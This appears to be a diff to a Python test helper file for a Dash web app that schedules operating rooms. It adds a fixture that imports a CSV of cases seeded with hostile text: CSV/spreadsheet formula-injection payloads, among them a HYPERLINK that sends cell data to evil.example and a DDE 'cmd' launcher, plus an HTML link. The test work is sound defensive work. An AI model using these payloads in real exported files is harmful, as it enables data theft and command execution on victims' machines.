@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
 from dash.testing.wait import until
 
+from optior.services.importing import import_cases
 from tests.ports import free_port
+from tests.test_database_unavailable import serving
 
 ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "screenshots"
 
@@ -40,3 +44,31 @@ def save_screenshot(dash_duo, name: str) -> Path:
 def console_errors(dash_duo) -> list[dict]:
     """Browser console entries at SEVERE level (errors), excluding none."""
     return [entry for entry in dash_duo.get_logs() or [] if entry.get("level") == "SEVERE"]
+
+
+# Text a careless or hostile user can put into a case file: spreadsheet formulas and Plotly's pseudo-HTML.
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
+MARKUP = '<a href="https://evil.example">click me</a>'
+HOSTILE_DAY = "2026-06-01"
+
+
+def _hostile_case_file() -> bytes:
+    """One case per hostile text on HOSTILE_DAY, in its own room; each ran 5 minutes short of its booking."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["Encounter ID", "Date", "OR Suite", "Service", "CPT Code", "CPT Description", "Surgeon",
+                     "Booked Time (min)", "OR Schedule", "Wheels In", "Start Time", "End Time", "Wheels Out"])
+    for room, text in enumerate((*FORMULAS, MARKUP), start=1):
+        day = f"{HOSTILE_DAY} "
+        writer.writerow([f"H-{room}", HOSTILE_DAY, room, text, "52000", text, text, 60, day + "08:00",
+                         day + "08:00", day + "08:10", day + "08:50", day + "08:55"])
+    return out.getvalue().encode()
+
+
+@pytest.fixture
+def hostile_cases(optior_app, runtime):
+    """The session app serving, for this test, a database whose only day holds the hostile cases."""
+    report = import_cases(runtime, source=_hostile_case_file(), source_name="hostile.csv")
+    assert report.inserted == len(FORMULAS) + 1, report.summary()
+    with serving(optior_app, runtime):
+        yield
